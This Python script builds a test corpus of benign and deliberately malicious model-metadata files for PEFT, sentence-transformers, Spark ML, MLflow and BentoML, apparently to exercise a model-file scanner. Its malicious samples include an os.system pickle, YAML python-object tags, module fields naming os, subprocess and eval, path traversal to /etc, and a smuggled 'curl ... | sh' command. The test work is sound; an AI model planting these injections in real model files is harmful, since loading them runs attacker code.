"""Writes malicious/ and benign/ of the small files that describe models anew: adapters, MLflow, Spark ML,
sentence-transformers, BentoML. Each is a folder, since the files' names are fixed.

Needs: peft==0.21.2. The others are written as mlflow 2.x, PySpark 3.5, sentence-transformers 3.x and BentoML 1.x write them.
"""
import base64
import json
import os
import pathlib
import pickle
import shutil

import peft

HERE = pathlib.Path(__file__).resolve().parent
GOOD = HERE / "benign"
BAD = HERE / "malicious"
for folder in (GOOD, BAD):
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()


class Echo:
    def __reduce__(self):
        return os.system, ("echo surety-corpus",)


PICKLE = base64.b64encode(pickle.dumps(Echo(), 4)).decode()


def save(folder, name, file, content):
    path = folder / name / file
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content if isinstance(content, str) else json.dumps(content, indent=2))


# ---- PEFT
for name, config in {
    "lora": peft.LoraConfig(r=8, target_modules=["q_proj", "v_proj"], task_type="CAUSAL_LM", base_model_name_or_path="meta-llama/Llama-3.2-1B"),
    "lora_pattern": peft.LoraConfig(target_modules=r".*\.(q|k|v|o)_proj", modules_to_save=["lm_head", "embed_tokens"], use_dora=True, base_model_name_or_path="/home/user/models/llama"),
    "lora_all": peft.LoraConfig(target_modules="all-linear", exclude_modules=r".*vision.*", init_lora_weights="pissa", base_model_name_or_path="./base"),
    "lora_auto": peft.LoraConfig(target_modules=["query"], auto_mapping={"base_model_class": "BertModel", "parent_library": "transformers.models.bert.modeling_bert"}, base_model_name_or_path="bert-base-uncased", revision="main"),
    "prompt": peft.PromptTuningConfig(task_type="CAUSAL_LM", num_virtual_tokens=8, prompt_tuning_init="TEXT", prompt_tuning_init_text="Classify if the tweet is a complaint or not:", tokenizer_name_or_path="bigscience/bloomz-560m"),
    "prefix": peft.PrefixTuningConfig(task_type="SEQ_2_SEQ_LM", num_virtual_tokens=4), "ia3": peft.IA3Config(target_modules=["k_proj", "down_proj"], feedforward_modules=["down_proj"]),
    "adalora": peft.AdaLoraConfig(total_step=10, target_modules=["q"]), "loha": peft.LoHaConfig(target_modules=["q"]), "vera": peft.VeraConfig(target_modules=["q"]), "oft": peft.OFTConfig(target_modules=["q"]),
}.items():
    (GOOD / f"peft_{name}").mkdir()
    config.save_pretrained(str(GOOD / f"peft_{name}"))
lora = json.loads((GOOD / "peft_lora" / "adapter_config.json").read_text())
for name, change in {
    "foreign_library": {"auto_mapping": {"base_model_class": "Model", "parent_library": "surety_missing.modeling"}},
    "library_os": {"auto_mapping": {"base_model_class": "system", "parent_library": "os"}},
    "library_subprocess": {"auto_mapping": {"base_model_class": "Popen", "parent_library": "subprocess"}},
    "library_remote": {"auto_mapping": {"base_model_class": "Model", "parent_library": "transformers_modules.attacker.model.modeling"}},
    "megatron_core": {"megatron_core": "surety_missing.core", "megatron_config": {"a": 1}},
    "megatron_pty": {"megatron_core": "pty", "megatron_config": {"a": 1}},
    "base_address": {"base_model_name_or_path": "http://198.51.100.7/model"},
    "base_share": {"base_model_name_or_path": "\\\\198.51.100.7\\share\\model"},
    "base_outside": {"base_model_name_or_path": "../../../../etc"},
    "pattern_exponential": {"target_modules": "(.*)*proj"},
    "remote_tokenizer": {"peft_type": "PROMPT_TUNING", "tokenizer_kwargs": {"trust_remote_code": True}},
    "code_in_field": {"target_modules": ["q_proj", "__import__('os').system('echo surety')"]},
    "pickle_in_field": {"alpha_pattern": {"state": PICKLE}},
    "covariance_outside": {"corda_config": {"covariance_file": "../../../tmp/surety.pt"}},
}.items():
    save(BAD, f"peft_{name}", "adapter_config.json", {**lora, **change})

# ---- sentence-transformers
modules = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
           {"idx": 2, "name": "2", "path": "2_Normalize", "type": "sentence_transformers.models.Normalize"}]
save(GOOD, "st_plain", "modules.json", modules)
save(GOOD, "st_new_names", "modules.json", [{**one, "type": one["type"].replace("models.", "sentence_transformer.modules.")} for one in modules])
save(GOOD, "st_clip", "modules.json", [{"idx": 0, "name": "0", "path": "0_CLIPModel", "type": "sentence_transformers.models.CLIPModel"}])
for name, change in {"foreign": {"type": "surety_missing.Transformer"}, "system": {"type": "os.system"}, "popen": {"type": "subprocess.Popen"}, "path_outside": {"path": "../../../etc"},
                     "path_absolute": {"path": "/etc"}, "builtins": {"type": "builtins.eval"}, "remote": {"type": "modeling_custom.Model"}}.items():
    save(BAD, f"st_{name}", "modules.json", [modules[0], {**modules[1], **change}])

# ---- Spark ML
spark = {"class": "org.apache.spark.ml.classification.LogisticRegressionModel", "timestamp": 1760000000000, "sparkVersion": "3.5.1", "uid": "LogisticRegression_1", "paramMap": {"maxIter": 5}, "defaultParamMap": {"featuresCol": "features"}, "numFeatures": 3}


def line(value):
    return json.dumps(value, separators=(",", ":")) + "\n"


save(GOOD, "spark_logistic/metadata", "part-00000", line(spark))
save(GOOD, "spark_pipeline/metadata", "part-00000", line({**spark, "class": "org.apache.spark.ml.PipelineModel", "paramMap": {"stageUids": ["a", "b"]}}))
save(GOOD, "spark_sql/metadata", "part-00000", line({**spark, "class": "org.apache.spark.ml.feature.SQLTransformer", "paramMap": {"statement": "SELECT *, (v1 + v2) AS v3 FROM __THIS__"}}))
save(GOOD, "spark_xgboost/metadata", "part-00000", line({**spark, "class": "xgboost.spark.estimator.SparkXGBClassifierModel"}))
for name, change in {"foreign": {"class": "surety_missing.Model"}, "system": {"class": "os.system"}, "runtime": {"class": "java.lang.ProcessBuilder"}, "gadget": {"class": "javax.script.ScriptEngineManager"},
                     "reflect": {"class": "org.apache.spark.ml.feature.SQLTransformer", "paramMap": {"statement": "SELECT java_method('java.lang.Runtime', 'getRuntime') FROM __THIS__"}},
                     "code": {"paramMap": {"udf": PICKLE}}}.items():
    save(BAD, f"spark_{name}/metadata", "part-00000", line({**spark, **change}))

# ---- MLflow
MLMODEL = """artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.{loader}
    model_path: {path}
    predict_fn: predict
    python_version: 3.11.7
  {flavour}:
    code: null
    pickled_model: {path}
    serialization_format: cloudpickle
    sklearn_version: 1.5.0
mlflow_version: 2.14.1
model_size_bytes: 932
model_uuid: 7a1f0c9d5c6e4b0f9a3e6c2d1b0a9f8e
run_id: 0f1e2d3c4b5a69788796a5b4c3d2e1f0
signature:
  inputs: '[{{"type": "double", "required": true, "name": "x"}}]'
  outputs: '[{{"type": "tensor", "tensor-spec": {{"dtype": "int64", "shape": [-1]}}}}]'
  params: null
utc_time_created: '2026-01-01 00:00:00.000000'
"""
for flavour, path in {"sklearn": "model.pkl", "xgboost": "model.xgb", "lightgbm": "model.lgb", "pytorch": "data", "keras": "data", "onnx": "model.onnx", "spark": "sparkml", "statsmodels": "model.statsmodels"}.items():
    save(GOOD, f"mlflow_{flavour}", "MLmodel", MLMODEL.format(loader=flavour, flavour=flavour, path=path))
plain = MLMODEL.format(loader="sklearn", flavour="sklearn", path="model.pkl")
save(GOOD, "mlflow_pyfunc", "MLmodel", plain.replace("mlflow.sklearn", "mlflow.pyfunc.model").replace("model_path: model.pkl", "python_model: python_model.pkl\n    cloudpickle_version: 3.0.0\n    artifacts:\n      weights:\n        path: artifacts/weights.bin\n        uri: s3://models/weights.bin"))
for name, (old, new) in {
    "foreign_loader": ("mlflow.sklearn", "surety_missing.loader"), "loader_os": ("mlflow.sklearn", "os"), "loader_subprocess": ("mlflow.sklearn", "subprocess"),
    "path_outside": ("model_path: model.pkl", "model_path: ../../../tmp/surety.pkl"), "path_absolute": ("model_path: model.pkl", "model_path: /tmp/surety.pkl"), "path_address": ("model_path: model.pkl", "model_path: http://198.51.100.7/m.pkl"),
    "code_outside": ("code: null", "code: ../../shared"), "python_tag": ("run_id: 0f1e", "run_id: !!python/object/apply:os.system ['echo surety'] # "), "python_model_outside": ("model_path: model.pkl", "python_model: ../../python_model.pkl"),
    "command": ("python_version: 3.11.7", "python_version: 3.11.7 && curl http://198.51.100.7/x | sh"), "artifact_outside": ("predict_fn: predict", "artifacts:\n      w:\n        path: ../../etc/hostname"),
}.items():
    assert old in plain
    save(BAD, f"mlflow_{name}", "MLmodel", plain.replace(old, new))

# ---- BentoML
BENTO = "name: iris\nversion: abc\nmodule: bentoml.sklearn\nlabels: {}\noptions: {}\nmetadata: {}\ncontext:\n  framework_name: sklearn\n  framework_versions:\n    scikit-learn: 1.5.0\n  bentoml_version: 1.2.0\n  python_version: 3.11.7\nsignatures:\n  predict:\n    batchable: false\napi_version: v1\ncreation_time: '2026-01-01T00:00:00+00:00'\n"
save(GOOD, "bentoml", "model.yaml", BENTO)
save(BAD, "bentoml_foreign", "model.yaml", BENTO.replace("bentoml.sklearn", "surety_missing.runner"))
save(BAD, "bentoml_os", "model.yaml", BENTO.replace("bentoml.sklearn", "os"))
save(BAD, "bentoml_tag", "model.yaml", BENTO.replace("options: {}", "options: !!python/object/apply:os.system ['echo surety']"))
